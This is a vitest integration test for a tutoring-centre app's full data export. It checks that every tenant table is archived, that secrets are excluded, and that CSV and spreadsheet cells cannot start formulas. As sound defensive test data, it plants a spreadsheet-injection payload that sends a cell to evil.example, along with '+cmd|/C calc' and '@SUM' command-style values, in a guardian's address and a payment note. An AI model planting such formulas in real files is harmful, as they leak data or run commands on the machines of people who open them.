// The whole centre as one archive (GET /api/export): every table of the centre is in it
// (compared with the schema's own list of tenant tables, so a table added later cannot be
// forgotten), the secrets are not (a declared exclusion, checked against the schema's
// secret-looking columns and against the stored values themselves), and no CSV cell it
// holds, nor a list download or an accountant's spreadsheet, starts a formula: a guardian who
// types =HYPERLINK(...) as her address in the portal plants nothing in the office's sheets.
import { execFileSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { is, sql } from 'drizzle-orm';
import { getTableConfig, PgTable } from 'drizzle-orm/pg-core';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_PAGE_ROWS, PortalMeAnswer } from '../../../domain/index';
import * as schema from '../../../server/db/schema/index';
import { SECRET_COLUMNS } from '../../../server/modules/personal-data/tables';
import { buildCsv, parseCsv } from '../../../src/engine/list/csv';
import { show } from '../support/api-helpers';
import { DATABASE_KINDS, startApp, type TestApp } from '../support/harness';
import { callerOf, created, fresh, lessonBody, makeLesson, makeWorld, type Row, type World } from '../support/lessons-helpers';
import { addSignIn, GUARDIAN_PASSWORD } from '../support/portal-helpers';
import { queryRows } from '../../../server/db/statements';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Πατήστε εδώ")';
const SEALED = 'sealed-subscription-key-for-the-test';

/** The schema's tables of a centre's rows (a NOT NULL tenant_id), by name. */
const schemaTables = () =>
  (Object.values(schema) as unknown[])
    .filter((v): v is PgTable => is(v, PgTable))
    .map((table) => getTableConfig(table))
    .filter((c) => c.columns.some((col) => col.name === 'tenant_id' && col.notNull));

/** A cell a spreadsheet would run: starts with = + - @ tab or CR, and is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]\d[\d\s().,]*$/.test(cell);

describe.each(DATABASE_KINDS)('the whole-centre archive on %s', (kind) => {
  let t: TestApp;
  let w: World;
  let tenantId: number;
  let guardian: Row;
  let payment: Row;
  let out: string;
  let dir: string;
  let email: string;

  const read = async (name: string) => readFile(join(out, name), 'utf8');
  const rowsOf = async (name: string) => JSON.parse(await read(`${name}.json`)) as Row[];

  beforeAll(async () => {
    t = await startApp(kind);
    w = await makeWorld(t, { teachers: 1, classes: 1, subjects: 1, rooms: 1 });
    tenantId = Number((await queryRows<{ id: number }>(t.database.db, sql`select id from tenants where slug = 'demo'`))[0]!.id);
    const student = created(
      await w.admin('POST', '/api/students', { first_name: 'Ιφιγένεια', last_name: 'Λαμπράκη', class_ids: [w.classes[0]!.id] }),
      'student',
    );
    email = `${fresh('ifig')}@example.gr`;
    guardian = created(await w.admin('POST', '/api/guardians', { first_name: 'Δανάη', last_name: 'Λαμπράκη', email, student_ids: [student.id] }), 'guardian');
    await addSignIn(t, tenantId, guardian);
    const her = callerOf(t, (await t.signIn(email, GUARDIAN_PASSWORD, 'demo')).token, 'demo');
    // she types a formula as her address, in the portal
    const me = PortalMeAnswer.parse(JSON.parse((await her('GET', '/api/portal/me')).body)).data.guardian;
    const patched = await her('PATCH', '/api/portal/me', { version: me.version, address: FORMULA, city: '+cmd|/C calc' });
    expect(patched.statusCode, show(patched)).toBe(200);

    const contract = created(
      await w.admin('POST', '/api/contracts', {
        student_id: student.id,
        payer_guardian_id: guardian.id,
        start_date: '2026-09-01',
        end_date: '2027-06-30',
        register_cost: 5000,
        month_cost: 12050,
        with_receipt: true,
      }),
      'contract',
    );
    payment = created(
      await w.admin('POST', '/api/payments', {
        contract_id: contract.id,
        kind: 'MONTHLY',
        month: '2026-09',
        amount: 12050,
        method: 'CASH',
        paid_on: '2026-09-20',
        description: '@SUM(1+1)*cmd',
      }),
      'payment',
    );
    const lesson = await makeLesson(w.admin, lessonBody(w, '2027-03-09'));
    const marked = await w.admin('PUT' as 'PATCH', `/api/lessons/${lesson.id}/attendance`, { marks: [{ student_id: student.id, status: 'PRESENT' }] });
    expect(marked.statusCode, show(marked)).toBe(200);
    // the centre's settings hold its sealed myDATA key
    await t.database.db.execute(
      sql`insert into centre_settings (tenant_id, mydata_subscription_key) values (${tenantId}, ${SEALED})
        on conflict (tenant_id) do update set mydata_subscription_key = excluded.mydata_subscription_key`,
    );

    // more history than three pages of the archive's reading hold
    await t.database.db.execute(
      sql`insert into history (tenant_id, entity, entity_id, action, changes)
        select ${tenantId}, 'rooms', ${w.rooms[0]!.id}, 'update', jsonb_build_object('capacity', jsonb_build_object('old', n, 'new', n + 1))
        from generate_series(1, ${2 * MAX_PAGE_ROWS + 7}) as n`,
    );
    const res = await w.admin('GET', '/api/export');
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    dir = await mkdtemp(join(tmpdir(), 'frontis-archive-'));
    await writeFile(join(dir, 'centre.zip'), res.rawPayload);
    execFileSync('unzip', ['-q', join(dir, 'centre.zip'), '-d', join(dir, 'out')]);
    out = join(dir, 'out');
  }, 240_000);
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
    await t?.close();
  });

  it("holds every table of the centre, as the schema lists them, each with its rows and the manifest's count", async () => {
    const held = (await readdir(join(out, 'tables'))).filter((f) => f.endsWith('.json')).map((f) => f.slice(0, -5));
    const tables = schemaTables().map((c) => c.name);
    expect(held.sort()).toEqual([...new Set(tables)].sort());
    const manifest = JSON.parse(await read('manifest.json'));
    for (const name of held) {
      const rows = await rowsOf(`tables/${name}`);
      expect(manifest.counts[`tables/${name}`], name).toBe(rows.length);
      const csv = parseCsv(await read(`tables/${name}.csv`), ',');
      expect(csv.length - 1, `${name}.csv`).toBe(rows.length);
      expect(rows.every((r) => r.tenant_id === tenantId)).toBe(true);
    }
    // what the tester found missing is there
    expect((await rowsOf('tables/receipts')).map((r) => [r.id, r.amount])).toEqual([[Number(payment.receipt_id), 12050]]);
    expect((await rowsOf('tables/attendance')).map((r) => r.status)).toEqual(['PRESENT']);
    expect((await rowsOf('tables/centre_settings')).length).toBe(1);
    const history = await rowsOf('tables/history');
    expect(history.some((h) => h.entity === 'payments' && h.entity_id === payment.id)).toBe(true);
    // read a page at a time, every entry once, in key order
    const stored = await queryRows<{ id: number }>(t.database.db, sql`select id from history where tenant_id = ${tenantId} order by id`);
    expect(stored.length).toBeGreaterThan(2 * MAX_PAGE_ROWS);
    expect(history.map((h) => h.id)).toEqual(stored.map((r) => Number(r.id)));
    expect(held).toEqual(expect.arrayContaining(['outbox', 'notifications', 'receipt_payments', 'contract_months']));
    // money stays integer cents, a number in the CSV too
    const receipts = parseCsv(await read('tables/receipts.csv'), ',');
    expect(receipts[1]![receipts[0]!.indexOf('amount')]).toBe('12050');
  });

  it('leaves the secrets out, by a declared exclusion that covers every secret-looking column of the schema', async () => {
    for (const config of schemaTables()) {
      for (const col of config.columns) {
        if (/hash|secret|password|token|subscription_key|sealed/.test(col.name) && col.name !== 'tenant_id') {
          expect(SECRET_COLUMNS[config.name] ?? [], `${config.name}.${col.name}`).toContain(col.name);
        }
      }
    }
    for (const [table, columns] of Object.entries(SECRET_COLUMNS)) {
      const header = parseCsv(await read(`tables/${table}.csv`), ',')[0]!;
      for (const column of columns) {
        expect(header, `${table}.${column}`).not.toContain(column);
        for (const row of await rowsOf(`tables/${table}`)) expect(row, `${table}.${column}`).not.toHaveProperty(column);
      }
    }
    // and none of the stored values is anywhere in the archive's entries
    const secrets = [
      ...(await queryRows<{ v: string }>(t.database.db, sql`select password_hash as v from users where tenant_id = ${tenantId}`)),
      ...(await queryRows<{ v: string }>(t.database.db, sql`select token_hash as v from refresh_tokens where tenant_id = ${tenantId}`)),
      { v: SEALED },
    ].map((r) => r.v);
    expect(secrets.length).toBeGreaterThan(3);
    const everything: string[] = [];
    const walk = async (at: string): Promise<void> => {
      for (const entry of await readdir(at, { withFileTypes: true })) {
        if (entry.isDirectory()) await walk(join(at, entry.name));
        else everything.push(await readFile(join(at, entry.name), 'utf8'));
      }
    };
    await walk(out);
    const text = everything.join('\n');
    for (const secret of secrets) expect(text.includes(secret), 'a secret in the archive').toBe(false);
  });

  it('holds no CSV cell that starts a formula: her address is neutralised, numbers stay numbers', async () => {
    const csvs: string[] = [];
    const walk = async (at: string, prefix = ''): Promise<void> => {
      for (const entry of await readdir(at, { withFileTypes: true })) {
        if (entry.isDirectory()) await walk(join(at, entry.name), `${prefix}${entry.name}/`);
        else if (entry.name.endsWith('.csv')) csvs.push(`${prefix}${entry.name}`);
      }
    };
    await walk(out);
    expect(csvs).toEqual(expect.arrayContaining(['guardians.csv', 'tables/guardians.csv', 'tables/history.csv', 'payments.csv']));
    for (const name of csvs) {
      for (const row of parseCsv(await read(name), ',')) for (const cell of row) expect(runnable(cell), `${name}: ${cell}`).toBe(false);
    }
    for (const name of ['guardians.csv', 'tables/guardians.csv']) {
      const [header, ...rows] = parseCsv(await read(name), ',');
      const hers = rows.find((r) => r[header!.indexOf('id')] === String(guardian.id))!;
      expect(hers[header!.indexOf('address')]).toBe(`'${FORMULA}`);
      expect(hers[header!.indexOf('city')]).toBe("'+cmd|/C calc");
    }
    // the JSON keeps what she typed, as data
    expect((await rowsOf('guardians')).find((g) => g.id === guardian.id)!.address).toBe(FORMULA);
  });

  it("neutralises the same cells in a list's CSV download and in the accountant's spreadsheet", async () => {
    const listed = JSON.parse((await w.admin('GET', `/api/guardians?q=${encodeURIComponent(email)}`)).body).data as Row[];
    const hers = listed.find((g) => g.id === guardian.id)!;
    const csv = parseCsv(buildCsv(['address', 'city'], [[hers.address, hers.city]]), ',');
    expect(csv[1]).toEqual([`'${FORMULA}`, "'+cmd|/C calc"]);

    const res = await w.admin('GET', '/api/exports/payments.xlsx?from=2026-09-01&to=2026-09-30');
    expect(res.statusCode, show(res)).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(res.rawPayload).buffer);
    const values: unknown[] = [];
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula, `formula at ${cell.address}`).toBeUndefined();
        values.push(cell.value);
      }),
    );
    expect(values).toContain("'@SUM(1+1)*cmd");
    // the amount is a number of euro, not text
    expect(values).toContain(120.5);
  });
});
